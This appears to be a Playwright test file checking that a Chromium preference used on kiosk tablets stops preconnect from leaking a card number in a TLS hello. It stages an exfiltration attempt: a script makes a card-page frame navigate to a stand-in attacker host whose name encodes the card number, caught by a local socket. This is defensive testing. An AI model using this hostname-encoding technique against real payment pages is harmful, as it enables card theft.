import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { join } from 'node:path';
import { chromium } from '@playwright/test';
import { expect, test } from '../support/fixtures.ts';
import type { Tenant } from '../support/tenant.ts';

/**
 * A hostile script navigates to a host named like the card number. The page refuses, but a browser that preconnects
 * has named the host in its TLS hello. The tablets' policies prevent that by the preference set here.
 */

/** The whole browser: without a window it does not preconnect. */
const BROWSER = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const CARD = '4111111111111111';

async function openSocket() {
  const names: string[] = [];
  const server = createServer((socket) => {
    socket.on('error', () => {});
    socket.on('data', (hello) => {
      names.push(/([a-z0-9]+)\.thief\.example/u.exec(hello.toString('latin1'))?.[1] ?? '');
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return {
    port: typeof address === 'object' && address !== null ? address.port : 0,
    names,
    close: () => server.close(),
  };
}

test.skip(!existsSync(BROWSER), 'needs a whole Chromium');

/** The named hosts after a script of the card document left for a refused host, and a page for an allowed one. */
async function namesWith(
  option: number,
  tenant: Pick<Tenant, 'url'>,
  profile: string,
): Promise<readonly string[]> {
  mkdirSync(join(profile, 'Default'), { recursive: true });
  const preferences = { net: { network_prediction_options: option } };
  writeFileSync(join(profile, 'Default/Preferences'), JSON.stringify(preferences));
  const thief = await openSocket();
  const context = await chromium.launchPersistentContext(profile, {
    executablePath: BROWSER,
    args: ['--host-resolver-rules=MAP *.thief.example 127.0.0.1'],
  });
  const page = await context.newPage();
  await page.goto(tenant.url);
  await page.evaluate(() => {
    const frame = document.createElement('iframe');
    frame.src = '/card.html';
    document.body.append(frame);
  });
  const find = () => page.frames().find((frame) => frame.url().endsWith('/card.html'));
  await expect.poll(() => find()?.evaluate(() => document.readyState) ?? '').toBe('complete');
  await find()?.evaluate(
    (address) => window.location.assign(address),
    `https://${CARD}.thief.example:${thief.port}/`,
  );
  await expect.poll(find, 'the page refuses the address').toBeUndefined();
  // Allowed and later: a hello of the other would have come before.
  const other = await context.newPage();
  await other.goto(`https://other.thief.example:${thief.port}/`).catch(() => undefined);
  await expect.poll(() => thief.names).toContain('other');
  await context.close();
  thief.close();
  return thief.names;
}

test('a refused host is not named by a browser with the policy for tablets', async ({ tenant }, info) => {
  expect(await namesWith(2, tenant, info.outputPath('with'))).not.toContain(CARD);
  // The proof counts only where a run without the preference names the host.
  const names = await namesWith(0, tenant, info.outputPath('without'));
  test.skip(!names.includes(CARD), 'this browser had no time to connect ahead, so that nothing was shown');
});
